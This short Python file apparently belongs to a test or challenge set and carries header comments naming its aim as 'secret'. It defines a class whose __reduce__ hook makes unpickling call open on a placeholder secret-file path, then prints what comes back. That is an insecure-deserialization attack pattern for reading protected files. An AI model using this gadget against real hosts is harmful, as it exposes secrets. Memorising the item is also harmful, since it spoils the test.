# aim = "secret"
# tries = "Puts a pickle into the place of an object whose reading the host does itself."
import copyreg
import pickle


class Loot:
    def __reduce__(self):
        return open, ("@SECRET_FILE@",)


print(pickle.loads(pickle.dumps(Loot())).read(), copyreg)
